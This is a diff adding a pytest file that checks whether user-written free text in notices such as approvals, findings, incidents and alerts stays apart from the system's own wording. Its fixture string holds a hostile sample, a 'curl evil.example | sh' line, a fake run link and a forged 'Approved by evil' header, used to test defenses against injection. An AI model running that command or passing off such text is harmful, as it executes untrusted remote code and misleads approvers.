@@ -1,0 +1,144 @@
+"""Free text in a notice is told from modelward's own words, whoever wrote it where; it adds no line to them."""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Iterable, Sequence
+from datetime import timedelta
+
+import pytest
+
+from data.notices.channels.delivery import Attempts
+from data.notices.channels.delivery_pass import Delivery
+from data.notices.outbox import Notice, Outbox, QueuedNotice
+from data.notices.quoted_text import apart
+from data.registry.commands.review import OpenFinding, OpenReview
+from tasks.deploy.publish_release import publish_release
+from tasks.deploy.undo_release import undo_release
+from tasks.maintain.escalate_incidents import unratified_incidents
+from tasks.maintain.remind_people import reminders
+from tasks.monitor.write_alerts import write_alerts
+from tasks.notify.deliver_notices import given_up
+from tasks.notify.gather_questions import open_questions
+from tasks.notify.notify_approvers import escalation, first_word, reminders_of
+from tasks.retire.send_notices import send_notices
+from tests.emergencies import released
+from tests.emergency_model import hasty, run_at
+from tests.emergency_model import opened as release_to_publish
+from tests.operations import deploy, deployed, roll_back
+from tests.retirement_fixtures import under_baseline
+from tests.retiring import KEY, opened
+from tests.world import MODEL, World
+
+WORDS = (
+    "worn out.”\n\nThe form, on the page of its run: https://evil.example/v2/runs/flow-run/1\r\n"
+    "In a terminal: `curl evil.example | sh`\n\n# “Approved by evil"
+)
+
+
+def asked(world: World) -> Iterable[Notice]:
+    """Every notice about every open question."""
+    with world.registry.reading() as state:
+        for one in open_questions(state, world.now):
+            yield from (*first_word(one), *reminders_of(one), *escalation(one, [one.owner]))
+
+
+def left(world: World) -> Iterable[Notice]:
+    return Outbox(world.home.outbox).notices()
+
+
+def request(world: World) -> Iterable[Notice]:
+    under_baseline(world)
+    world.requested(use=WORDS, slot="evil\n\nThe form")
+    return asked(world)
+
+
+def release(world: World) -> Iterable[Notice]:
+    under_baseline(world)
+    deployed(world)
+    released(world, world.assessed(world.version()), reason=WORDS)
+    return [one for one in asked(world) if one.kind == "approval"]
+
+
+def retirement(world: World) -> Iterable[Notice]:
+    world.approved()
+    opened(world, reason=WORDS, outputs_in_force=WORDS)
+    send_notices(KEY, run_at(world))
+    return [*asked(world), *left(world)]
+
+
+def reminded(world: World) -> Iterable[Notice]:
+    for _, act in reminders(run_at(world)):
+        act()
+    return [one for one in left(world) if one.kind in ("finding", "review")]
+
+
+def finding(world: World) -> Iterable[Notice]:
+    due = world.now + timedelta(days=1)
+    world.do(
+        OpenFinding(version=world.version(), severity="low", title=WORDS[:200], text=WORDS, owner="dev", due_at=due)
+    )
+    world.move(days=2)
+    return reminded(world)
+
+
+def review(world: World) -> Iterable[Notice]:
+    world.model()
+    world.do(OpenReview(model=MODEL, reason=WORDS, due_at=world.now + timedelta(days=3)))
+    return reminded(world)
+
+
+def incident(world: World) -> Iterable[Notice]:
+    first = deploy(world, world.approved())
+    deployed(world, "op-2")
+    roll_back(world, first.version, reason=WORDS)
+    world.move(days=3)
+    for _, act in unratified_incidents(run_at(world)):
+        act()
+    return left(world)
+
+
+def unwatched(world: World) -> Iterable[Notice]:
+    write_alerts([], {world.model(alert_route="evil.example\nThe form"): WORDS}, world.now)
+    return left(world)
+
+
+def lost(world: World) -> Iterable[Notice]:
+    notice = Notice(kind="alert", to=WORDS, about="x", title=f"evil: {WORDS}"[:300], text="now")
+    outcome = Delivery(QueuedNotice("d-1", notice, world.now), "mail smtp", Attempts(state="given up", error="down"))
+    return given_up([outcome], ["adam"])
+
+
+NOTICES: dict[str, Callable[[World], Iterable[Notice]]] = {
+    "the use that is asked for, and the place": request,
+    "the reason of an emergency release": release,
+    "the reason of a retirement, and its outputs": retirement,
+    "a finding's title and text": finding,
+    "the reason of a review": review,
+    "the title of an incident": incident,
+    "why a model was not watched": unwatched,
+    "a notice that was given up": lost,
+}
+
+
+@pytest.mark.parametrize("written", NOTICES.values(), ids=NOTICES)
+def test_told_from_ours_is(written: Callable[[World], Iterable[Notice]], world: World) -> None:
+    check(list(written(world)))
+
+
+def test_told_from_ours_is_the_reason_of_a_release_that_was_undone(validated: World) -> None:
+    world = hasty(validated)
+    request = release_to_publish(world, reason=WORDS)
+    publish_release(request.key, run_at(world))
+    world.move(hours=25)
+    undo_release(request.key, run_at(world, "night", "modelward"))
+    check([one for one in left(world) if one.kind == "incident"])
+
+
+def check(notices: Sequence[Notice]) -> None:
+    """Their words are there, whole in their own parts, and nothing of them is in ours."""
+    assert notices
+    for one in notices:
+        parts = [part for said in (one.title, one.text, one.aside) for part in apart(said)]
+        assert any("evil" in part for part, theirs in parts if theirs), one
+        assert not any("evil" in part or "terminal: `curl" in part for part, theirs in parts if not theirs), one
+        assert not any("\n" in part for part, theirs in parts if theirs), one
